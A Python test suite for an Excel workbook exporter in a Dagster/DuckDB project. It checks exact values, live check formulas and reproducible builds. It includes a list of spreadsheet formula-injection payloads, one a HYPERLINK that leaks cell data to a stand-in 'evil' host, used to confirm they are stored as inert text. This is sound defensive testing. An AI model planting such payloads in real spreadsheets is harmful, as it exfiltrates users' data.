"""Workbooks: every row as SQL has it, exact or told, laws that are live, and no formula from a file."""

import re
import shutil
from datetime import date, datetime
from decimal import Decimal
from pathlib import Path

import duckdb
import openpyxl
import pytest
import xlsxwriter

from dagster_project.published import workbook
from dagster_project.published.builds import current, sha256
from dagster_project.published.workbook.cells import DIGITS, FORMULA, LONGEST, Cells
from dagster_project.published.workbook.contents import KNOWN, LAWS, SHEETS, Sheet
from dagster_project.published.workbook.readme import ABOUT
from dagster_project.settings import ROOT
from dagster_project.storage.database import attach, connect, text

MARTS = {path.stem for path in (ROOT / "dbt/models/marts").rglob("*.sql")}
HOSTILE = (
    '=HYPERLINK("http://evil/?"&A1)',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "https://evil.example",
    "<img src=x>",
)


@pytest.fixture(scope="module")
def books(night):
    """The published workbooks of the sample, by company, as their cells say (formulas as text)."""
    paths = sorted((current(night.settings).path / "workbooks").iterdir())
    return {path.stem: openpyxl.load_workbook(path) for path in paths}


@pytest.fixture(scope="module")
def rewritten(night, tmp_path_factory):
    """Write a workbook from a copy of the build in which a statement was run; opened."""

    def rewrite(statement="", company="cango", **options):
        folder, published = tmp_path_factory.mktemp("build"), current(night.settings)
        database = Path(shutil.copy(published.database, folder))
        database.chmod(0o644)
        with duckdb.connect(database) as connection:
            connection.execute(statement)
        path = folder / f"{company}.xlsx"
        with connect() as connection:
            attach(connection, database, "coffer")
            attach(connection, night.settings.warehouse, "warehouse")
            workbook.write_one(connection, path, company, published.manifest, **options)
        return openpyxl.load_workbook(path)

    return rewrite


def rows_of(sheet):
    header, *rows = sheet.iter_rows(values_only=True)
    return [dict(zip(header, row, strict=True)) for row in rows]


def exact(value):
    """A cell as text with all its digits, as a spreadsheet shows 15 of a number."""
    if isinstance(value, float):
        return f"{Decimal(f'{value:.15g}'):f}"
    return str(value)


def expected(value):
    if isinstance(value, Decimal):
        plain = f"{value:f}"
        return plain.rstrip("0").rstrip(".") if "." in plain else plain
    if isinstance(value, date) and not isinstance(value, datetime):
        return str(datetime(value.year, value.month, value.day))
    return str(value)


def test_every_company_has_a_workbook_that_verify_covers(night, books, published):
    companies = published.execute("select distinct company_id from events").fetchall()
    assert {(company,) for company in books} == set(companies)
    sums = (current(night.settings).path / "SHA256SUMS").read_text()
    assert all(f"workbooks/{company}.xlsx" in sums for company in books)


def test_every_mart_is_a_sheet_or_is_named_as_left_out():
    sheets = {sheet.mart for sheet in SHEETS}
    assert sheets <= MARTS
    assert all(re.search(rf"\b{mart}\b", ABOUT.read_text()) for mart in MARTS - sheets)


@pytest.mark.parametrize("sheet", [it for it in SHEETS if it.rows == Sheet.rows], ids=lambda it: it.mart)
def test_a_sheet_has_every_row_of_its_mart_to_the_last_digit(books, published, sheet):
    for company, book in books.items():
        query = f"from {sheet.mart} where company_id = ?"
        of_sql = published.execute(query, [company]).fetchall()
        of_sheet = [tuple(row.values()) for row in rows_of(book[sheet.mart])]
        told = sorted([exact(value) for value in row] for row in of_sheet)
        assert told == sorted([expected(value) for value in row] for row in of_sql)


def test_headers_are_frozen_filtered_and_explained(books, published):
    for sheet in SHEETS:
        page = books["cango"][sheet.mart]
        assert page.freeze_panes == "B2"
        assert page.auto_filter.ref.startswith("A1:")
        described = published.execute(
            "select column_name, comment from duckdb_columns() "
            "where schema_name = 'marts' and table_name = ?",
            [sheet.mart],
        ).fetchall()
        assert [(cell.value, cell.comment.text) for cell in page[1]] == described


def test_numbers_dates_and_truths_are_real_ones(books):
    [row, *_] = books["cango"]["disposals"].iter_rows(min_row=2)
    cells = dict(zip([cell.value for cell in books["cango"]["disposals"][1]], row, strict=True))
    assert isinstance(cells["net_proceeds_usd"].value, int | float)
    assert cells["net_proceeds_usd"].number_format == "#,##0.00"
    assert isinstance(cells["disposed_at"].value, datetime)
    assert cells["disposed_at"].number_format == "yyyy-mm-dd hh:mm:ss"
    assert cells["is_cost_complete"].value is True


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (Decimal("305000000.01"), 305000000.01),
        (Decimal("4451.000000000000000000"), 4451),
        (Decimal("-0.000000010000000000"), -1e-08),
        (Decimal("999999999999999"), 999999999999999),
        (Decimal("9.7"), 9.7),
        (Decimal("9999999999999.99"), 9999999999999.99),
        (Decimal("99999999999999.99"), "99999999999999.99"),
        (Decimal("1.000000000000000001"), "1.000000000000000001"),
        (Decimal("20999999999999999999.000000000000000001"), "20999999999999999999.000000000000000001"),
        (Decimal("-12345678901234567.8"), "-12345678901234567.8"),
        (10**15 + 1, "1000000000000001"),
        (0, 0),
        (date(1899, 12, 31), "1899-12-31"),
        ("x" * (LONGEST + 1), f"{'x' * LONGEST}… (cut: 16,001 characters; the DuckDB file has all)"),
        (None, None),
        *((it, it) for it in HOSTILE),
    ],
)
def test_a_value_is_exact_or_it_is_text(tmp_path, value, cell):
    with xlsxwriter.Workbook(str(tmp_path / "a.xlsx"), {"constant_memory": True}) as book:
        became_text = Cells(book).write(book.add_worksheet(), 0, 0, value)
    read = openpyxl.load_workbook(tmp_path / "a.xlsx").active["A1"]
    assert read.value == cell
    assert became_text == (isinstance(value, int | Decimal) and isinstance(cell, str))
    assert read.data_type in ("n" if not isinstance(cell, str) else "s", "inlineStr")
    if became_text:
        assert read.alignment.horizontal == "right"
    if isinstance(value, str):
        assert read.quotePrefix == value.startswith(FORMULA)
        assert read.hyperlink is None


def test_no_formula_comes_from_a_file(rewritten):
    """Hostile text in every text column of two sheets: the only formulas are those of the laws."""
    columns = ("event_type", "from_account", "note", "group_id", "source_file", "source_url")
    hostile = HOSTILE[0]
    book = rewritten(f"update marts.events set {', '.join(f'{it} = {text(hostile)}' for it in columns)}")
    formulas = {
        (page.title, cell.column_letter)
        for page in book
        for row in page.iter_rows()
        for cell in row
        if cell.data_type == "f"
    }
    assert formulas == {("checks", column) for column in "BCDFG"}
    assert {row["note"] for row in rows_of(book["events"])} == {hostile}


SUM = re.compile(r"(?:SUM|SUMIFS)\(([^()]*)\)")
RANGE = re.compile(r"(\w+)!\$([A-Z]+)\$2:\$\2\$(\d+)")


def evaluate(book, formula):
    """The value of a sum of SUM and SUMIFS, exact, from the cells."""
    assert set(SUM.sub("", formula)) <= set("=+"), "a formula that this test cannot read"
    return sum((sum_of(book, *arguments.split(",")) for arguments in SUM.findall(formula)), Decimal(0))


def sum_of(book, summed, *criteria):
    added, *tested = (cells_of(book, it) for it in (summed, *criteria[::2]))
    wanted = [criterion.strip('"') for criterion in criteria[1::2]]
    return sum(
        Decimal(str(value or 0))
        for value, *others in zip(added, *tested, strict=True)
        if all(
            it is not None if criterion == KNOWN else it == criterion
            for it, criterion in zip(others, wanted, strict=True)
        )
    )


def cells_of(book, cells):
    sheet, column, last = RANGE.fullmatch(cells).groups()
    assert int(last) == max(book[sheet].max_row, 2), "a formula must see every row"
    return [book[sheet][f"{column}{row}"].value for row in range(2, int(last) + 1)]


@pytest.mark.parametrize("company", ["cango", "lantern", "ferry"])
def test_laws_are_live_formulas_that_give_what_sql_gives(books, company):
    _, *lines = books[company]["checks"].iter_rows()
    assert [line[0].value for line in lines] == [law.sentence for law in LAWS]
    for row, (_, left, right, difference, of_sql, off_sql, result) in enumerate(lines, start=2):
        one = evaluate(books[company], left.value)
        assert one == evaluate(books[company], right.value) == Decimal(str(of_sql.value))
        assert difference.value == f"=ROUND(B{row}-C{row},2)"
        assert off_sql.value == f"=ROUND(B{row}-E{row},2)"
        assert result.value == f'=IF(AND(D{row}=0,F{row}=0),"holds","BROKEN")'


def test_laws_hold_when_a_viewer_does_not_count_anew(night):
    for path in (current(night.settings).path / "workbooks").iterdir():
        [_, *laws] = openpyxl.load_workbook(path, data_only=True)["checks"].iter_rows(values_only=True)
        assert {law[6] for law in laws} == {"holds"}


def test_every_law_speaks_of_something_in_the_sample(books):
    for number, law in enumerate(LAWS, start=2):
        assert any(book["checks"][f"E{number}"].value for book in books.values()), law.sentence


def test_a_law_that_is_broken_in_the_file_says_so(rewritten):
    book = rewritten("update marts.disposals set realized_gain_usd = realized_gain_usd + 0.01")
    left, right = (evaluate(book, book["checks"][f"{column}3"].value) for column in "BC")
    assert right - left == Decimal("0.01") * (book["disposals"].max_row - 1)


def test_a_law_over_figures_that_a_spreadsheet_cannot_add_says_that_sql_did(rewritten):
    book = rewritten("update marts.lots set cost_usd = 9999999999999999.99")
    [_, *laws] = book["checks"].iter_rows(values_only=True)
    assert {law[6] for law in laws if "lots cost" in law[0]} == {
        "BROKEN, by SQL alone: more rows or digits than a sheet adds"
    }


def test_a_sheet_with_too_many_rows_says_how_many_and_where(rewritten):
    book = rewritten(most_rows=5)
    where = "parquet/lots.parquet, and marts.lots of coffer.duckdb"
    told = f"17 rows are too many for a sheet. They stand in {where}."
    assert [row[0] for row in book["lots"].iter_rows(min_row=2, values_only=True)] == [told]
    assert book["checks"]["G5"].value.startswith("holds, by SQL alone")
    assert len(rows_of(book["disposals"])) == 5


def test_refused_rows_are_those_of_the_companys_files_and_of_nobodys(rewritten):
    refused = """
        insert into marts.rejected_rows (source_file, source_sha256, source_row)
        select distinct on (company_id) company_id, source_sha256, 1 from marts.events
        where source_file like '%ferry%' or source_file like '%treasury%';
        insert into marts.rejected_rows (source_file, source_sha256, source_row) values ('nobody', 'none', 1)
    """
    shown = {
        company: {row["source_file"] for row in rows_of(rewritten(refused, company)["rejected_rows"])}
        for company in ("cango", "ferry")
    }
    assert shown["cango"] == {"cango", "lantern", "nobody"}  # one file tells of both
    assert shown["ferry"] == {"ferry", "nobody"}


def test_the_readme_says_as_of_when_from_which_build_and_by_which_methods(night, books):
    manifest, page = current(night.settings).manifest, books["lantern"]["README"]
    told = [tuple(value for value in row if value is not None) for row in page.iter_rows(values_only=True)]
    assert ("Figures up to", manifest["data_date"]) in told
    assert ("Build", manifest["build_id"]) in told
    assert ("gaap", "*", "specific", "company", datetime(2009, 1, 3), "derecognise", "disposal") in told
    assert ("tax", "*", "fifo", "account", datetime(2009, 1, 3), "retain", "disposal") in told
    counts = {row[0]: row[1] for row in told if row and row[0] in books["lantern"].sheetnames}
    assert counts == {sheet.mart: len(rows_of(books["lantern"][sheet.mart])) for sheet in SHEETS}
    assert f"has {DIGITS} digits" in ABOUT.read_text()
    assert f"{LONGEST:,} characters" in ABOUT.read_text()
    assert f"{workbook.MOST_ROWS:,} rows" in ABOUT.read_text()


def test_the_same_build_gives_the_same_bytes(night, tmp_path):
    published = current(night.settings)
    shutil.copy(published.database, tmp_path)
    workbook.write(night.settings, tmp_path, published.manifest)
    for path in (published.path / "workbooks").iterdir():
        assert sha256(tmp_path / "workbooks" / path.name) == sha256(path)
